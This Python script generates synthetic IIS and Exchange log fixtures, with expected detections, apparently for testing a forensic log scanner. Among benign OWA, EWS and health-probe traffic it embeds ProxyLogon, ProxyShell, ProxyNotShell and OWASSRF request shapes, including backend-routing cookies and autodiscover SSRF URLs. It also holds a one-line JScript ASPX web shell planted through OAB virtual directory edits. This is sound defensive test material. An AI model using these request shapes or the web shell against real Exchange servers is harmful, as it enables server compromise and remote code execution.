#!/usr/bin/env python3
"""logfixtures.py -- IIS and Exchange log fixtures for the log pass, generated.

Writes, under an image-shaped folder (what `--image DIR` expects), the logs a
front end and back end keep: IIS W3C logs of two sites (stock fields, and a
site with cookies and byte counts logged in another column order), Exchange's
HttpProxy, ECP server, OAB and CmdletInfra CSV logs, a rotated gzip log, and
hostile files (a 1 MiB line, invalid UTF-8, NUL bytes, broken or missing
#Fields: headers, an unterminated quote, a truncated gzip). Into ordinary
traffic it mixes one or more requests of each exploitation technique and
benign requests that look like them (health probes, OWA, EWS, Autodiscover,
remote PowerShell, ECP administration).

    logfixtures.py IMAGE_DIR [--scale N]   write the fixtures; print the expected
                                            traces as TSV (file, line, technique)

As a module: write(image_dir, scale=1) returns the list of expected traces
(relative file, 1-based line, technique id). The request shapes here were
written for these tests from the public descriptions of the attacks; no log
sample was copied.
"""

import gzip
import os
import random
import sys

V15 = "Program Files/Microsoft/Exchange Server/V15"
W3C_STOCK = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
             "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
# Cookies and sizes logged, in another order.
W3C_WIDE = ("date time c-ip cs-username cs-method cs-uri-stem cs-uri-query sc-status sc-bytes "
            "cs-bytes time-taken cs-host cs(User-Agent) cs(Cookie) cs(Referer) s-ip s-port "
            "sc-substatus sc-win32-status")
HTTPPROXY = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
             "ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,"
             "IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
             "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,"
             "ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
             "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
             "UrlQuery,GenericInfo")
ECP_SERVER = "TimeStamp,ServerName,EventID,EventData"
ECP_COLUMNS = "DateTime,ClientIpAddress,AuthenticatedUser,Cmdlet,Parameters,HttpStatus"
CMDLETINFRA = ("DateTime,RequestId,ServerHostName,ClientIpAddress,AuthenticatedUser,UserAgent,"
               "Url,HttpStatus,ErrorCode,GenericInfo")

USERS = ["alice", "bob", "carol", "dave", "erin", "frank"]
AGENTS = ["Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36",
          "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.17928)",
          "Apple-iPhone15C2/2104.150", "ExchangeServicesClient/15.02.1544.004"]
SHELL = ('<script language="JScript" runat="server">function Page_Load()'
         '{eval(Request["q7"],"unsafe");}</script>')


class Log:
    """Lines of one log file, and which of them are attacks."""

    def __init__(self, rel, header):
        self.rel, self.lines, self.expect = rel, list(header), []

    def add(self, line, *techniques):
        self.lines.append(line)
        for t in techniques:
            self.expect.append((self.rel, len(self.lines), t))

    def data(self, crlf=True):
        sep = "\r\n" if crlf else "\n"
        out = []
        for x in self.lines:
            out.append(x if isinstance(x, bytes) else x.encode("utf-8", "surrogateescape"))
        return sep.encode().join(out) + sep.encode()


def csv_quote(text):
    """The inside of a quoted CSV value: quotes doubled."""
    return text.replace('"', '""')


def w3c_header(fields, day):
    return ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
            f"#Date: {day} 00:00:00", "#Fields: " + fields]


def stock(day, t, method, stem, query, user, ip, agent, status, sip="10.0.0.5", port=443):
    return (f"{day} {t} {sip} {method} {stem} {query or '-'} {port} {user or '-'} {ip} "
            f"{agent} - {status} 0 0 {random.randint(2, 900)}")


def wide(day, t, method, stem, query, user, ip, agent, status, cookie="-", sc=1234, cs=456):
    return (f"{day} {t} {ip} {user or '-'} {method} {stem} {query or '-'} {status} {sc} {cs} "
            f"{random.randint(2, 900)} mail.contoso.com {agent} {cookie} - 10.0.0.5 443 0 0")


def clock(i, n):
    s = i * 86000 // max(n, 1)
    return f"{s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d}"


# Benign traffic, including the look-alikes of each technique.
def benign_stock(rng, day, i, n):
    u = rng.choice(USERS)
    t = clock(i, n)
    ip = f"10.20.{rng.randint(0, 40)}.{rng.randint(1, 250)}"
    a = rng.choice(AGENTS)
    return rng.choice([
        lambda: stock(day, t, "GET", "/owa/", "", "", ip, a, 302),
        lambda: stock(day, t, "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0", "", ip, a, 200),
        lambda: stock(day, t, "POST", "/owa/service.svc", "action=GetFolderChangeDigest&app=Mail", f"CONTOSO\\{u}", ip, a, 200),
        lambda: stock(day, t, "GET", f"/owa/{u}@contoso.com/", "", f"CONTOSO\\{u}", ip, a, 200),
        lambda: stock(day, t, "POST", f"/owa/{u}@contoso.com/service.svc", "action=GetItem", f"CONTOSO\\{u}", ip, a, 200),
        lambda: stock(day, t, "GET", "/owa/auth/15.2.1118.7/themes/resources/powershell.png", "", "", ip, a, 404),
        lambda: stock(day, t, "GET", "/owa/prem/15.2.1118.7/scripts/boot.worldwide.0.mouse.js", "", f"CONTOSO\\{u}", ip, a, 200),
        lambda: stock(day, t, "POST", "/EWS/Exchange.asmx", "", f"CONTOSO\\{u}", ip, "ExchangeServicesClient/15.02.1544.004", 200),
        lambda: stock(day, t, "POST", "/Autodiscover/Autodiscover.xml", "", f"CONTOSO\\{u}", ip, a, 200),
        lambda: stock(day, t, "GET", f"/autodiscover/autodiscover.json/v1.0/{u}@contoso.com", "Protocol=ActiveSync&RedirectCount=1", "", ip, "Outlook-iOS/709.2189947.prod.iphone", 200),
        lambda: stock(day, t, "GET", "/autodiscover/autodiscover.json", f"Email={u}%40contoso.com&Protocol=Rest&RedirectCount=1", "", ip, a, 200),
        lambda: stock(day, t, "GET", "/autodiscover/autodiscover.json", f"Email={u}@contoso.com&Protocol=AutodiscoverV1", "", ip, a, 200),
        lambda: stock(day, t, "GET", "/owa/healthcheck.htm", "", "", "127.0.0.1", "AMProbe/Local/ClientAccess", 200),
        lambda: stock(day, t, "GET", "/ecp/healthcheck.htm", "", "", "127.0.0.1", "AMProbe/Local/ClientAccess", 200),
        lambda: stock(day, t, "GET", "/Autodiscover/healthcheck.htm", "", "", "127.0.0.1", "AMProbe/Local/ClientAccess", 200),
        lambda: stock(day, t, "GET", "/powershell/healthcheck.htm", "", "", "127.0.0.1", "AMProbe/Local/ClientAccess", 200),
        lambda: stock(day, t, "POST", "/powershell", "serializationLevel=Full;ExchClientVer=15.2.1118.7;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1852", "CONTOSO\\admin", "10.0.0.30", "Microsoft+WinRM+Client", 200),
        lambda: stock(day, t, "GET", "/ecp/", "", "CONTOSO\\admin", "10.0.0.30", a, 200),
        lambda: stock(day, t, "GET", "/ecp/15.2.1118.7/scripts/microsoft.exchange.ecp.js", "", "CONTOSO\\admin", "10.0.0.30", a, 200),
        lambda: stock(day, t, "POST", "/ecp/DDI/DDIService.svc/GetList", "schema=OABVirtualDirectory&msExchEcpCanary=x1", "CONTOSO\\admin", "10.0.0.30", a, 200),
        lambda: stock(day, t, "POST", "/mapi/emsmdb/", f"mailboxId={u}@contoso.com", f"{u}@contoso.com", ip, a, 200),
        lambda: stock(day, t, "GET", "/OAB/3f2a9c1e-77aa-4d2b-9a55-0c3b1d5f3e21/oab.xml", "", f"CONTOSO\\{u}", ip, a, 200),
    ])()


def write(image, scale=1, seed=7):
    rng = random.Random(seed)
    random.seed(seed)
    logs = []
    day = "2026-11-03"
    n = 400 * scale

    # -- Site 1 (front end), stock fields ---------------------------------------------
    fe = Log("inetpub/logs/LogFiles/W3SVC1/u_ex261103.log", w3c_header(W3C_STOCK, day))
    attacks = {
        n // 10: ("POST", "/ecp/y.js", "", "", "198.51.100.23", "ExchangeServicesClient/0.0.0.0", 200, ["proxylogon.ecp_root_script"]),
        n // 9: ("POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=ResetOABVirtualDirectory&msExchEcpCanary=ab12", "CONTOSO\\administrator", "198.51.100.23", "python-requests/2.25.1", 200, ["proxylogon.ecp_oab_vdir_write"]),
        n // 8: ("GET", "/autodiscover/autodiscover.json", "@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.com", "", "203.0.113.50", "Mozilla/5.0+zgrab/0.x", 200, ["proxyshell.autodiscover_ssrf"]),
        n // 7: ("POST", "/autodiscover/autodiscover.json", "@foo.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTAl&Email=autodiscover/autodiscover.json%3F@foo.com", "", "203.0.113.50", "python-requests/2.26.0", 200, ["proxyshell.autodiscover_powershell", "proxyshell.rps_cat_token"]),
        n // 6: ("POST", "/autodiscover/autodiscover.json", "@evil.com/owa/&Email=autodiscover/autodiscover.json%3F@evil.com&Protocol=XYZ&FooProtocol=Powershell", "CONTOSO\\bob", "192.0.2.77", "python-requests/2.28.1", 200, ["proxynotshell.autodiscover_powershell"]),
        n // 5: ("POST", "/Autodiscover/AutoDiscover.JSON", "%2540evil.com/PowerShell/&Email=Autodiscover/Autodiscover.json%253F%2540evil.com", "", "192.0.2.78", "-", 200, ["proxyshell.autodiscover_powershell"]),
        n // 4: ("POST", "/owa/mastermailbox%40outlook.com/powershell", "", "CONTOSO\\bob", "192.0.2.77", "python-requests/2.28.1", 200, ["owassrf.owa_powershell"]),
        n // 3: ("POST", "/OWA/Mailbox%2540contoso.com/PowerShell/", "clientApplication=x", "CONTOSO\\carol", "192.0.2.79", "-", 200, ["owassrf.owa_powershell"]),
    }
    for i in range(n):
        if i in attacks:
            m, stem, q, u, ip, a, st, ts = attacks[i]
            fe.add(stock(day, clock(i, n), m, stem, q, u, ip, a, st), *ts)
        else:
            fe.add(benign_stock(rng, day, i, n))
    logs.append(fe)

    # -- Site 1, a day with cookies and sizes logged (other order) ---------------------
    day2 = "2026-11-04"
    wd = Log("inetpub/logs/LogFiles/W3SVC1/u_ex261104.log", w3c_header(W3C_WIDE, day2))
    for i in range(n // 2):
        u = rng.choice(USERS)
        ip = f"10.20.{rng.randint(0, 40)}.{rng.randint(1, 250)}"
        if i == 20:
            wd.add(wide(day2, clock(i, n), "GET", "/owa/auth/x.js", "", "", "198.51.100.23",
                        "ExchangeServicesClient/0.0.0.0", 200,
                        cookie="X-AnonResource=true;+X-AnonResource-Backend=localhost/ecp/default.flt?~3;+X-BEResource=localhost/owa/auth/logon.aspx?~3"),
                   "proxylogon.backend_cookie_ssrf")
        elif i == 21:
            wd.add(wide(day2, clock(i, n), "POST", "/ecp/x.js", "", "", "198.51.100.23",
                        "ExchangeServicesClient/0.0.0.0", 200,
                        cookie="X-BEResource=Administrator@EX01.contoso.local:444/ecp/proxyLogon.ecp?a=~1942062522"),
                   "proxylogon.backend_cookie_ssrf", "proxylogon.ecp_root_script")
        elif i % 7 == 0:
            # A legitimate back-end routing cookie: a server, no path.
            wd.add(wide(day2, clock(i, n), "GET", "/ecp/", "", f"CONTOSO\\{u}", ip, AGENTS[0], 200,
                        cookie=f"X-BEResource=EX02.contoso.local~1942062522;+msExchEcpCanary=Zx{i}"))
        else:
            wd.add(wide(day2, clock(i, n), "POST", "/owa/service.svc", "action=GetItem",
                        f"CONTOSO\\{u}", ip, rng.choice(AGENTS), 200,
                        cookie=f"ClientId=ABCD{i};+X-OWA-CANARY=q{i}"))
    logs.append(wd)

    # -- Site 2 (back end, port 444) --------------------------------------------------------
    be = Log("inetpub/logs/LogFiles/W3SVC2/u_ex261103.log", w3c_header(W3C_STOCK, day))
    for i in range(n // 2):
        if i == 33:
            be.add(stock(day, clock(i, n), "POST", "/powershell", "X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@foo.com",
                         "", "10.0.0.5", "python-requests/2.26.0", 200, port=444), "proxyshell.rps_cat_token")
        else:
            be.add(stock(day, clock(i, n), "POST", "/PowerShell", "serializationLevel=Full;ExchClientVer=15.2.1118.7;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1852",
                         "CONTOSO\\admin", "10.0.0.5", "Microsoft+WinRM+Client", 200, port=444))
    logs.append(be)

    # -- HttpProxy (CSV) ----------------------------------------------------------------------
    hp = Log(f"{V15}/Logging/HttpProxy/Ecp/HttpProxy_2026110310-1.LOG",
             ["#Software: Microsoft Exchange Server", "#Version: 15.02.1118.007", "#Log-type: HttpProxy Logs",
              f"#Date: {day}T10:00:00.000Z", "#Fields: " + HTTPPROXY])

    def hp_line(t, stem, user, anchor, ip, status, method, query="", backend="", ua="Mozilla/5.0"):
        auth = "true" if user else "false"
        return (f"{day}T{t}.123Z,{rng.getrandbits(32):08x}-aaaa-bbbb-cccc-000000000000,15,2,1118,7,,Ecp,"
                f"mail.contoso.com,{stem},,{'Negotiate' if user else ''},{auth},{user},,{anchor},{ua},{ip},"
                f"EX01,{status},{status},,{method},Proxy,EX02.contoso.local,Version 15.2 (Build 1118.7),"
                f"{'AnchorMailboxHeader' if anchor else 'Random'},,{backend},,0,{rng.randint(100, 900)},"
                f"{rng.randint(100, 90000)},{query},")
    for i in range(n // 2):
        t = clock(i, n)
        if i == 40:
            hp.add(hp_line(t, "/ecp/y.js", "", "ServerInfo~a]@EX01.contoso.local:444/autodiscover/autodiscover.xml?#",
                           "198.51.100.23", 200, "POST", ua="ExchangeServicesClient/0.0.0.0"),
                   "proxylogon.serverinfo_anchor", "proxylogon.ecp_root_script")
        elif i % 5 == 0:
            # Health probes routed on a server anchor: authenticated, no path.
            hp.add(hp_line(t, "/ecp/ReportingWebService/", "CONTOSO\\HealthMailbox3a4c", "ServerInfo~EX02.contoso.local",
                           "127.0.0.1", 200, "GET", ua="AMProbe/Local/ClientAccess"))
        else:
            u = rng.choice(USERS)
            hp.add(hp_line(t, "/ecp/default.aspx", f"CONTOSO\\{u}", f"SMTP:{u}@contoso.com",
                           f"10.20.1.{rng.randint(1, 250)}", 200, "GET",
                           backend=f"Server~EX02.contoso.local~1942062522~2026-11-03T10:00:00"))
    logs.append(hp)

    # OAB through HttpProxy: ordinary downloads only.
    oab = Log(f"{V15}/Logging/HttpProxy/Oab/HttpProxy_2026110310-1.LOG",
              ["#Software: Microsoft Exchange Server", "#Version: 15.02.1118.007", "#Log-type: HttpProxy Logs",
               f"#Date: {day}T10:00:00.000Z", "#Fields: " + HTTPPROXY])
    for i in range(n // 4):
        u = rng.choice(USERS)
        oab.add(hp_line(clock(i, n), "/OAB/3f2a9c1e-77aa-4d2b-9a55-0c3b1d5f3e21/oab.xml", f"CONTOSO\\{u}",
                        f"SMTP:{u}@contoso.com", f"10.20.2.{rng.randint(1, 250)}", 200, "GET"))
    logs.append(oab)

    # -- ECP server log: the virtual directory edits ------------------------------------------
    ecp = Log(f"{V15}/Logging/ECP/Server/ECPServer2026110300-1.LOG",
              ["#Software: Microsoft Exchange Server", "#Version: 15.02.1118.007", "#Log-type: ECP Server Log",
               "#Fields: " + ECP_SERVER])
    for i in range(n // 4):
        t = clock(i, n)
        if i == 17:
            data = (f"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/{SHELL}''"
                    f".Identity=''EX01\\OAB (Default Web Site)'';S:REQID=''abc''")
            ecp.add(f'{day}T{t}.000Z,EX01,1,"{csv_quote(data)}"', "ecp.vdir_url_script")
        elif i % 6 == 0:
            data = ("S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''"
                    ".Identity=''EX01\\OAB (Default Web Site)''")
            ecp.add(f'{day}T{t}.000Z,EX01,1,"{data}"')
        else:
            ecp.add(f'{day}T{t}.000Z,EX01,1,"S:CMD=Get-OabVirtualDirectory.Identity=''EX01\\OAB (Default Web Site)''"')
    logs.append(ecp)

    # The same edit in a log that has the cmdlet and its parameters as columns.
    ecp2 = Log(f"{V15}/Logging/ECP/Server/ECPActivity2026110300-1.LOG",
               ["#Software: Microsoft Exchange Server", "#Fields: " + ECP_COLUMNS])
    ecp2.add(f'{day}T11:00:00.000Z,10.0.0.30,CONTOSO\\admin,Set-EcpVirtualDirectory,"-ExternalUrl https://mail.contoso.com/ecp"')
    ecp2.add(f'{day}T11:01:00.000Z,198.51.100.23,CONTOSO\\administrator,Set-OabVirtualDirectory,'
             f'"{csv_quote(chr(39) + "-InternalUrl http://x/" + SHELL + chr(39))} -Identity ""OAB (Default Web Site)"""',
             "ecp.vdir_url_script")
    logs.append(ecp2)

    # -- CmdletInfra: remote PowerShell as the proxy saw it -----------------------------------------
    ci = Log(f"{V15}/Logging/CmdletInfra/Powershell-Proxy/Http/Http_2026110310-1.LOG",
             ["#Software: Microsoft Exchange Server", "#Log-type: Powershell-Proxy Http Log",
              "#Fields: " + CMDLETINFRA])
    for i in range(n // 4):
        t = clock(i, n)
        if i == 9:
            ci.add(f"{day}T{t}.000Z,r{i},EX01,192.0.2.77,CONTOSO\\bob,python-requests/2.28.1,"
                   f"https://mail.contoso.com:444/owa/mastermailbox%40outlook.com/powershell?clientApplication=x,200,,",
                   "owassrf.owa_powershell")
        else:
            ci.add(f"{day}T{t}.000Z,r{i},EX01,10.0.0.30,CONTOSO\\admin,Microsoft WinRM Client,"
                   f"https://ex01.contoso.local:444/powershell?serializationLevel=Full;ExchClientVer=15.2.1118.7;clientApplication=ManagementShell,200,,")
    logs.append(ci)

    # -- Hostile files ---------------------------------------------------------------------------------
    ho = Log("inetpub/logs/LogFiles/W3SVC1/u_ex261105.log", w3c_header(W3C_STOCK, "2026-11-05"))
    ho.add(b"2026-11-05 00:00:01 10.0.0.5 GET /owa/ " + b"A" * (1 << 20) + b" 443 - 10.1.1.1 x - 200 0 0 1")
    ho.add(stock("2026-11-05", "00:00:02", "POST", "/ecp/z.js", "", "", "198.51.100.24", "x", 200),
           "proxylogon.ecp_root_script")
    ho.add(b"2026-11-05 00:00:03 10.0.0.5 GET /owa/\xff\xfe\xc0\xaf - 443 - 10.1.1.2 Mozilla/5.0+\xed\xa0\x80 - 200 0 0 1")
    ho.add(b"2026-11-05 00:00:04 10.0.0.5 GET /owa/\x00\x00 - 443 - 10.1.1.3 \x00 - 200 0 0 1")
    ho.add(b'2026-11-05 00:00:05 10.0.0.5 GET "/owa/a b - 443 - 10.1.1.4 " - 200 0 0 1')
    ho.add(b"#Fields: ")
    ho.add(b"2026-11-05 00:00:06 this line has no columns to go by")
    ho.add(b"#Fields: " + b" ".join(b"x-f%d" % k for k in range(600)))
    ho.add(b"1 2 3")
    ho.add(b"#Fields: " + W3C_STOCK.encode())
    ho.add(stock("2026-11-05", "00:00:07", "POST", "/owa/m%40x.com/powershell", "", "CONTOSO\\bob", "192.0.2.80", "x", 200),
           "owassrf.owa_powershell")
    ho.add(b"\x00" * 5000)
    logs.append(ho)

    # A log whose header was cut away: read with IIS's stock columns.
    nohead = Log("inetpub/logs/LogFiles/W3SVC1/u_ex261106.log", [])
    nohead.add(stock("2026-11-06", "01:00:00", "GET", "/owa/", "", "", "10.1.1.9", "x", 302))
    nohead.add(stock("2026-11-06", "01:00:01", "POST", "/ecp/q.js", "", "", "198.51.100.25", "x", 200),
               "proxylogon.ecp_root_script")
    logs.append(nohead)

    # CSV with an unterminated quote and a header of one comma.
    bad = Log(f"{V15}/Logging/HttpProxy/Owa/HttpProxy_2026110311-1.LOG",
              ["#Fields: DateTime,UrlStem,ClientIpAddress"])
    bad.add(f'{day}T01:00:00.000Z,"/owa/unterminated,10.1.1.1')
    bad.add("#Fields: ,")
    bad.add(f"{day}T01:00:01.000Z,/ecp/w.js,10.1.1.1")
    logs.append(bad)

    expected = []
    for lg in logs:
        path = os.path.join(image, lg.rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(lg.data())
        expected += lg.expect

    # -- Rotation: an older day, gzip-compressed (two members) ------------------------------------
    old = Log("inetpub/logs/LogFiles/W3SVC1/u_ex261102.log.gz", w3c_header(W3C_STOCK, "2026-11-02"))
    for i in range(n // 2):
        if i == n // 4:
            old.add(stock("2026-11-02", clock(i, n), "GET", "/autodiscover/autodiscover.json",
                          "@a.com/EWS/Exchange.asmx?&Email=autodiscover/autodiscover.json%3F@a.com", "",
                          "203.0.113.51", "x", 200), "proxyshell.autodiscover_ssrf")
        else:
            old.add(benign_stock(rng, "2026-11-02", i, n))
    raw = old.data()
    half = raw.index(b"\r\n", len(raw) // 2) + 2
    with open(os.path.join(image, old.rel), "wb") as f:
        f.write(gzip.compress(raw[:half], mtime=0) + gzip.compress(raw[half:], mtime=0))
    expected += old.expect
    # A truncated gzip: an error finding, never a crash.
    trunc = gzip.compress(raw, mtime=0)
    with open(os.path.join(image, "inetpub/logs/LogFiles/W3SVC1/u_ex261101.log.gz"), "wb") as f:
        f.write(trunc[:len(trunc) // 2])
    # Truncated at the cut, the first half's attack (if any) may or may not be read: none there.
    return expected


def app_host_config(image):
    """A small applicationHost.config: the two Exchange sites and their log folder."""
    ex = "C:\\Program Files\\Microsoft\\Exchange Server\\V15"
    fe = "".join(f'<application path="/{v}" applicationPool="MSExchange{v}AppPool">'
                 f'<virtualDirectory path="/" physicalPath="{ex}\\FrontEnd\\HttpProxy\\{d}" /></application>\n'
                 for v, d in (("owa", "owa"), ("ecp", "ecp"), ("EWS", "ews"), ("Autodiscover", "autodiscover"),
                              ("PowerShell", "powershell"), ("OAB", "oab")))
    be = "".join(f'<application path="/{v}"><virtualDirectory path="/" physicalPath="{ex}\\ClientAccess\\{d}" /></application>\n'
                 for v, d in (("owa", "Owa"), ("ecp", "ecp"), ("EWS", "exchweb\\ews"), ("PowerShell", "PowerShell")))
    text = f"""<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <!-- <site name="commented out" id="9"> -->
  <system.applicationHost>
    <sites>
      <site name="Default Web Site" id="1" serverAutoStart="true">
        <application path="/" applicationPool="DefaultAppPool">
          <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />
        </application>
{fe}        <logFile directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />
      </site>
      <site name="Exchange Back End" id="2">
{be}      </site>
      <siteDefaults><logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" /></siteDefaults>
    </sites>
  </system.applicationHost>
</configuration>
"""
    path = os.path.join(image, "Windows/System32/inetsrv/config/applicationHost.config")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", newline="\r\n") as f:
        f.write(text)


def minimal_tree(image):
    """The folders --image needs, and a web page in each web root."""
    for d in (f"{V15}/FrontEnd/HttpProxy/owa/auth", f"{V15}/FrontEnd/HttpProxy/ecp/auth",
              f"{V15}/ClientAccess/Owa", f"{V15}/Bin", "inetpub/wwwroot/aspnet_client/system_web"):
        os.makedirs(os.path.join(image, d), exist_ok=True)
    with open(os.path.join(image, V15, "FrontEnd/HttpProxy/owa/auth/logon.aspx"), "wb") as f:
        f.write(b'<%@ Page Language="C#" %>\r\n<html><body>Sign in</body></html>\r\n')
    with open(os.path.join(image, V15, "Bin/Microsoft.Exchange.Data.dll"), "wb") as f:
        f.write(b"MZ\x90\x00" + bytes(range(256)) * 8)
    app_host_config(image)


def main(argv):
    if len(argv) < 2:
        print(__doc__, file=sys.stderr)
        return 2
    scale = 1
    if "--scale" in argv:
        scale = int(argv[argv.index("--scale") + 1])
    minimal_tree(argv[1])
    for rel, line, t in write(argv[1], scale):
        print(f"{rel}\t{line}\t{t}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
